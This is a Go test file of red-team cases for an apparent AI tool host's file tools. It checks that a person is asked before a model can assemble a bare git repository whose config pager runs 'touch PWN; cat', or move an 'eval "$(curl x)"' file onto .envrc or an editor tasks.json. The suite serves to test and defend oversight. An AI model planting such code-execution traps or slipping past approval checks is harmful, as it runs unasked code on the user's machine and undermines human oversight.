package hostile_test

// Red team on delete_file, move_file and create_directory: attacks that
// succeeded against the tools as first built, each failing until its fix
// landed.

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/toolhost/toolhost/abi"
	"github.com/toolhost/toolhost/internal/testplugin"
)

// fsrtWorld is a workspace and a state directory of its own (so a
// journal) for `toolhost call` under the default policy, with no
// terminal: a call that asks a person is denied.
type fsrtWorld struct {
	bin, dir, home string
}

func fsrtNew(t *testing.T, files map[string]string) *fsrtWorld {
	t.Helper()
	w := &fsrtWorld{bin: toolhostBinary(t), home: t.TempDir()}
	var err error
	if w.dir, err = filepath.EvalSymlinks(t.TempDir()); err != nil {
		t.Fatal(err)
	}
	fsrtLayout(t, w.dir, files)
	return w
}

// fsrtLayout makes files under dir: a name ending in "/" is a directory.
func fsrtLayout(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if strings.HasSuffix(name, "/") {
			if err := os.MkdirAll(p, 0o755); err != nil {
				t.Fatal(err)
			}
			continue
		}
		fsopsWrite(t, p, content)
	}
}

// call runs `toolhost call tool --args args`, with --allow for each of
// allow, and returns whether the call succeeded and its message.
func (w *fsrtWorld) call(t *testing.T, tool, args string, allow ...string) (bool, string) {
	t.Helper()
	cmd := exec.Command(w.bin, "--state-dir", filepath.Join(w.home, "state"), "--plugins", realPlugins(t), "call", tool, "--args", args)
	for _, a := range allow {
		cmd.Args = append(cmd.Args, "--allow", a)
	}
	cmd.Dir = w.dir
	cmd.Env = append(os.Environ(), "HOME="+w.home, "XDG_CONFIG_HOME="+filepath.Join(w.home, ".config"),
		"XDG_STATE_HOME="+filepath.Join(w.home, ".state"), "TOOLHOST_CACHE_DIR="+testplugin.CacheDir(t))
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	var ee *exec.ExitError
	if err := cmd.Run(); err != nil && !errors.As(err, &ee) {
		t.Fatal(err)
	}
	var r struct {
		OK      bool   `json:"ok"`
		Content string `json:"content"`
		Error   *struct {
			Message string `json:"message"`
		} `json:"error"`
	}
	if err := json.Unmarshal(out.Bytes(), &r); err != nil {
		t.Fatalf("call %s %s: not a result: %v\n%s", tool, args, err, out.String())
	}
	if r.Error != nil {
		return r.OK, r.Error.Message
	}
	return r.OK, r.Content
}

func (w *fsrtWorld) exists(name string) bool {
	_, err := os.Lstat(filepath.Join(w.dir, name))
	return err == nil
}

const fsrtPager = "[core]\n\tpager = \"touch PWN; cat\"\n"

// Attack (model): lay out a bare git repository one unasked call at a
// time, the last one a new directory: r/config (core.pager runs a
// command), r/HEAD, then create_directory r/refs and r/objects. git run
// in r/ (`git branch -a` at a terminal) opens it as a repository and
// runs the pager.
// Expected: the call that completes the layout asks a person (and, with
// no terminal, does not run), whichever directory comes last.
// Was at fault: host/internal/engine/codepaths.go recorded every written
// path as a file, so a directory made by create_directory never counted
// as objects/ or refs/.
func TestFsrtCreateDirectoryCompletingABareRepoAsks(t *testing.T) {
	for _, last := range []string{"objects", "refs"} {
		t.Run(last+" last", func(t *testing.T) {
			w := fsrtNew(t, nil)
			first := map[string]string{"objects": "refs", "refs": "objects"}[last]
			steps := []struct{ tool, args string }{
				{"write_file", fsrtJSON(map[string]any{"path": "r/config", "content": fsrtPager, "create_dirs": true})},
				{"write_file", `{"path":"r/HEAD","content":"ref: refs/heads/main\n"}`},
				{"create_directory", `{"path":"r/` + first + `"}`},
			}
			for _, s := range steps {
				if ok, msg := w.call(t, s.tool, s.args); !ok {
					t.Fatalf("%s %s: %s (this step alone lays out nothing)", s.tool, s.args, msg)
				}
			}
			ok, msg := w.call(t, "create_directory", `{"path":"r/`+last+`"}`)
			if ok || w.exists("r/"+last) {
				t.Fatalf("create_directory r/%s ran unasked (%q): r/ is now a bare repository whose config runs a pager", last, msg)
			}
			if !strings.Contains(msg, "r/ would") || !strings.Contains(msg, "git") {
				t.Errorf("the refusal does not say r/ would become a git directory: %s", msg)
			}
		})
	}
}

// Attack (model, with --allow move_file): complete a git directory by
// moving into place what it lacks: a directory to x/objects beside HEAD,
// refs/ and a config; a bare-repository-shaped tree (HEAD, config,
// objects/, refs/, whose names say nothing) moved from a fixture into
// the root or below it; a file moved to x/HEAD.
// Expected: each asks a person, whom --allow does not stand for (writing
// x2/objects/keep is refused so already); nothing moves.
// Was at fault: the layout check counted a move's destination as a file
// and never looked into a tree moved.
func TestFsrtMoveCompletingAGitDirectoryAsksAPerson(t *testing.T) {
	repo := map[string]string{"HEAD": "ref: refs/heads/main\n", "config": fsrtPager, "objects/": "", "refs/": ""}
	for _, tc := range []struct {
		name  string
		files map[string]string
		args  string
		moved string
	}{
		{"a directory to objects", map[string]string{"x/HEAD": "ref: refs/heads/main\n", "x/config": fsrtPager, "x/refs/": "", "objs/info/": ""},
			`{"source":"objs","destination":"x/objects"}`, "x/objects"},
		{"a directory to refs", map[string]string{"x/HEAD": "ref: refs/heads/main\n", "x/objects/": "", "rr/heads/": ""},
			`{"source":"rr","destination":"x/refs"}`, "x/refs"},
		{"a file to HEAD", map[string]string{"x/objects/": "", "x/refs/": "", "h.txt": "ref: refs/heads/main\n"},
			`{"source":"h.txt","destination":"x/HEAD"}`, "x/HEAD"},
		{"a bare repository into the root", fsrtUnder("fixtures/repo/", repo), `{"source":"fixtures/repo","destination":"repo"}`, "repo"},
		{"a bare repository nested in a tree", fsrtUnder("fixtures/deep/a/", repo), `{"source":"fixtures/deep","destination":"src"}`, "src"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fsrtNew(t, tc.files)
			ok, msg := w.call(t, "move_file", tc.args, "move_file")
			if ok || w.exists(tc.moved) {
				t.Fatalf("move_file %s ran with --allow alone (%q): git run there opens a repository of the model's", tc.args, msg)
			}
			if !strings.Contains(msg, "git") {
				t.Errorf("the refusal does not say why (a git directory): %s", msg)
			}
		})
	}
	// A move that lays out nothing still runs with --allow.
	w := fsrtNew(t, map[string]string{"x/HEAD": "x\n", "objs/a.txt": "a\n"})
	if ok, msg := w.call(t, "move_file", `{"source":"objs","destination":"x/other"}`, "move_file"); !ok {
		t.Errorf("move_file objs x/other: %s", msg)
	}
}

// fsrtUnder is files with dir before each name.
func fsrtUnder(dir string, files map[string]string) map[string]string {
	out := make(map[string]string, len(files))
	for name, content := range files {
		out[dir+name] = content
	}
	return out
}

func fsrtJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// Attack (model): move a harmless-looking file onto a path tools run
// code from (.envrc, an editor's tasks.json), or a tree holding one.
// Expected: the person asked is told which path and why, at high risk,
// as a write of that file would be.
// Was at fault: a move's approval said only "move_file requires
// approval", at the tool's medium risk.
func TestFsrtMoveOntoACodePathSaysSo(t *testing.T) {
	h, root := openHost(t, nil)
	fsrtLayout(t, root, map[string]string{"mk": "eval \"$(curl x)\"\n", "tj": "{}\n", "tools/.envrc": "use nix\n", "tools/readme": "r\n"})
	for _, tc := range []struct{ args, says string }{
		{`{"source":"mk","destination":".envrc"}`, ".envrc"},
		{`{"source":"tj","destination":".vscode/tasks.json"}`, ".vscode/tasks.json"},
		{`{"source":"tools","destination":"t2"}`, "t2/.envrc"},
	} {
		c := confirmation(t, h, call("m", "move_file", tc.args))
		if !strings.Contains(c.Reason, tc.says) || !strings.Contains(c.Reason, "code_patterns") {
			t.Errorf("move_file %s: the reason %q does not name %s and the code pattern", tc.args, c.Reason, tc.says)
		}
		if c.Risk != abi.RiskHigh {
			t.Errorf("move_file %s: risk %s, want high", tc.args, c.Risk)
		}
	}
	if c := confirmation(t, h, call("m", "move_file", `{"source":"tools/readme","destination":"readme2"}`)); c.Reason != "move_file requires approval" || c.Risk != abi.RiskMedium {
		t.Errorf("a move touching no code path: reason %q, risk %s; want the tool's own", c.Reason, c.Risk)
	}
}

// fsrtTerminal runs `toolhost call tool --args args` (a journal in its
// state directory) at a terminal, answers the question with answer, and
// returns what the terminal showed and what the call printed.
func fsrtTerminal(t *testing.T, dir, tool, args, answer string) (shown, result string) {
	t.Helper()
	cmd := cliCommand(t, dir, tool, args)
	var stdout bytes.Buffer
	cmd.Stdout = &stdout
	tty, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 50, Cols: 160})
	if err != nil {
		t.Fatal(err)
	}
	defer tty.Close()
	var mu sync.Mutex
	var screenText bytes.Buffer
	go func() {
		buf := make([]byte, 64<<10)
		for {
			n, err := tty.Read(buf)
			mu.Lock()
			screenText.Write(buf[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	get := func() string { mu.Lock(); defer mu.Unlock(); return screenText.String() }
	// Generous: the preview runs the plugin, on a machine that may be
	// busy with other tests.
	for end := time.Now().Add(90 * time.Second); time.Now().Before(end) && !strings.HasSuffix(get(), "[y/N] "); {
		time.Sleep(20 * time.Millisecond)
	}
	shown = get()
	if strings.HasSuffix(shown, "[y/N] ") {
		io.WriteString(tty, answer+"\r")
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(90 * time.Second):
		cmd.Process.Kill()
		<-done
		t.Fatalf("%s did not end after the answer; the terminal shows %q", tool, get())
	}
	return get(), stdout.String()
}

// Attack (none: the tools as a person uses them): delete_file and
// move_file at a terminal, with the journal toolhost keeps by default.
// Expected: the person is asked, the preview says undo can restore it
// and names a directory as one, and approving runs the call.
// Was at fault: the approval's dry run, never journaled, had no journal
// ids, and recording its automatic approval indexed them (a panic that
// denied every delete and move); its description then said no journal
// was kept, and "→ file" for a directory.
func TestFsrtDeleteAndMoveCanBeApprovedAtATerminal(t *testing.T) {
	dir := t.TempDir()
	fsrtLayout(t, dir, map[string]string{"a.txt": "hello\n", "tools/x.txt": "x\n"})
	shown, result := fsrtTerminal(t, dir, "delete_file", `{"path":"a.txt"}`, "y")
	if strings.Contains(shown, "panicked") || !strings.Contains(result, `"ok": true`) {
		t.Fatalf("delete_file a.txt approved at a terminal did not run:\n%s\n%s", shown, result)
	}
	if _, err := os.Lstat(filepath.Join(dir, "a.txt")); err == nil {
		t.Error("a.txt is still there after its deletion was approved")
	}
	if strings.Contains(shown, "keeps no journal") || !strings.Contains(shown, "toolhost undo can restore it") {
		t.Errorf("the preview does not say undo can restore a.txt, though the call is journaled:\n%s", shown)
	}
	shown, result = fsrtTerminal(t, dir, "move_file", `{"source":"tools","destination":"t2"}`, "y")
	if !strings.Contains(result, `"ok": true`) {
		t.Fatalf("move_file tools t2 approved at a terminal did not run:\n%s\n%s", shown, result)
	}
	if !strings.Contains(shown, "→ directory tools") || strings.Contains(shown, "→ file tools") {
		t.Errorf("the question does not name tools as a directory:\n%s", shown)
	}
	if !strings.Contains(shown, "toolhost undo can move it back") {
		t.Errorf("the preview does not say undo can move it back:\n%s", shown)
	}
}

// The /v1 batch API plans a delete or a move (a journal configured, as
// by default) and shows it for approval, instead of crashing the
// request.
func TestFsrtBatchAPIAsksAboutDeleteAndMove(t *testing.T) {
	s := approvalViewServe(t, "")
	fsrtLayout(t, s.root, map[string]string{"a.txt": "hello\n", "d/x.txt": "x\n"})
	for _, c := range []struct{ name, args, says string }{
		{"delete_file", `{"path":"a.txt"}`, "toolhost undo can restore it"},
		{"move_file", `{"source":"d","destination":"e"}`, "toolhost undo can move it back"},
	} {
		var planned struct {
			BatchID string `json:"batch_id"`
			Calls   []struct {
				Approval *struct {
					Diff *struct {
						Text        string `json:"text"`
						Unavailable string `json:"unavailable"`
					} `json:"diff"`
				} `json:"approval"`
			} `json:"calls"`
		}
		body := `{"conversation_id":"fsrt","calls":[{"id":"1","name":"` + c.name + `","arguments":` + c.args + `}]}`
		status := s.do(t, "POST", "/v1/batches", body, &planned)
		if status != http.StatusCreated || len(planned.Calls) != 1 || planned.Calls[0].Approval == nil {
			t.Fatalf("POST /v1/batches %s: %d, %+v; want it awaiting approval", c.name, status, planned)
		}
		d := planned.Calls[0].Approval.Diff
		if d == nil || !strings.Contains(d.Text, c.says) {
			t.Errorf("%s: the approval's preview %+v does not say %q", c.name, d, c.says)
		}
		var decided map[string]any
		s.do(t, "POST", "/v1/batches/"+planned.BatchID+"/decision", `{"decision":"deny_all"}`, &decided)
	}
	if _, err := os.Stat(filepath.Join(s.root, "a.txt")); err != nil {
		t.Errorf("a.txt is gone after its deletion was denied: %v", err)
	}
}

// create_directory over a regular file says what is there.
// Was at fault: host/internal/hostfn/ops.go named any non-directory "a
// special file".
func TestFsrtCreateDirectoryOverAFileSaysWhatIsThere(t *testing.T) {
	w := fsrtNew(t, map[string]string{"a.txt": "hi\n"})
	ok, msg := w.call(t, "create_directory", `{"path":"a.txt"}`)
	if ok || !strings.Contains(msg, "a.txt exists and is not a directory (a regular file)") || strings.Contains(msg, "special") {
		t.Errorf("create_directory a.txt over a file: ok %v, %q", ok, msg)
	}
}
